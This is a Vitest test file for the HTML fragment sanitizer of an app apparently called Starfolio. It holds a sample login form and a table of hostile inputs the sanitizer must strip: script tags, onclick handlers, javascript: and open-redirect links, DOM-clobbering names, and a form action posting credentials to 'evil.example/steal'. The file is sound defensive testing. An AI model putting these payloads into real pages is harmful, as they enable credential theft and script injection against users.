// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeFragment } from './fragments-sanitize';

const serialize = (html: string) => {
  const div = document.createElement('div');
  div.append(sanitizeFragment(html));
  return div;
};

const LOGIN = `<section class="visitor-login" data-fragment="login-modal" aria-labelledby="t">
  <h2 id="t">Log in to Starfolio</h2>
  <form data-api="auth/login/" method="post" novalidate>
    <input type="hidden" name="next" value="/blog/?pageNumber=2">
    <label for="e">Email</label><input id="e" name="email" type="email" autocomplete="email" inputmode="email" required>
    <label for="p">Password</label><input id="p" name="password" type="password" autocomplete="current-password" required>
    <p data-role="form-error" role="alert"></p>
    <button type="submit">Log in</button>
  </form>
  <button type="button" data-action="login-otp">Log in with OTP</button>
  <a href="/starfolio/brokers/kestrel-securities/login/?next=%2Fblog%2F" data-action="login-broker" data-broker-id="sec">Log in with Kestrel</a>
</section>`;

describe('fragment sanitizer', () => {
  it('keeps the login form, its fields, labels, actions and same-site links', () => {
    const root = serialize(LOGIN);
    const form = root.querySelector('form')!;
    expect(form.dataset.api).toBe('auth/login/');
    expect(form.getAttribute('method')).toBe('post');
    expect([...form.querySelectorAll('input')].map((i) => `${i.name}:${i.type}`)).toEqual([
      'next:hidden',
      'email:email',
      'password:password',
    ]);
    expect(root.querySelector('label[for="e"]')?.textContent).toBe('Email');
    expect(root.querySelector('[data-role="form-error"]')?.getAttribute('role')).toBe('alert');
    expect(root.querySelector('[data-action="login-otp"]')?.getAttribute('type')).toBe('button');
    expect(root.querySelector('a')?.getAttribute('href')).toBe(
      '/starfolio/brokers/kestrel-securities/login/?next=%2Fblog%2F',
    );
    expect(root.querySelector('section')?.getAttribute('aria-labelledby')).toBe('t');
    expect(root.querySelector('[class]')).toBeNull();
  });

  it.each([
    ['a script', '<script>alert(1)</script><p>x</p>', 'script'],
    ['an event handler', '<button type="button" onclick="alert(1)">x</button>', '[onclick]'],
    ['a style attribute', '<p style="position:fixed">x</p>', '[style]'],
    ['a form action', '<form action="https://evil.example/steal" data-api="auth/login/"></form>', '[action]'],
    ['a formaction', '<button formaction="https://evil.example/">x</button>', '[formaction]'],
    ['an unknown data-api', '<form data-api="admin/delete-everything/"></form>', '[data-api]'],
    ['a javascript link', '<a href="javascript:alert(1)">x</a>', '[href]'],
    ['a foreign link', '<a href="https://evil.example/">x</a>', '[href]'],
    ['a protocol-relative link', '<a href="//evil.example/">x</a>', '[href]'],
    ['a backslash link', '<a href="/\\evil.example/">x</a>', '[href]'],
    ['a file input', '<input type="file" name="f">', '[type="file"]'],
    ['an image', '<img src="/x.png" alt="">', 'img'],
    ['an iframe', '<iframe src="https://www.youtube.com/embed/x"></iframe>', 'iframe'],
    ['a target', '<a href="/x" target="_blank">x</a>', '[target]'],
    ['an svg', '<svg><a href="/x">x</a></svg>', 'svg'],
    ['a textarea', '<textarea name="x"></textarea>', 'textarea'],
    ['a base element', '<base href="/evil/">', 'base'],
    ['a name that clobbers the document', '<form name="cookie"><input name="cookie"></form>', '[name="cookie"]'],
  ])('removes %s', (_what, html, selector) => {
    expect(serialize(html).querySelector(selector)).toBeNull();
  });

  it('returns nodes, not a string to parse again', () => {
    expect(sanitizeFragment('<p>hi</p>')).toBeInstanceOf(DocumentFragment);
  });
});
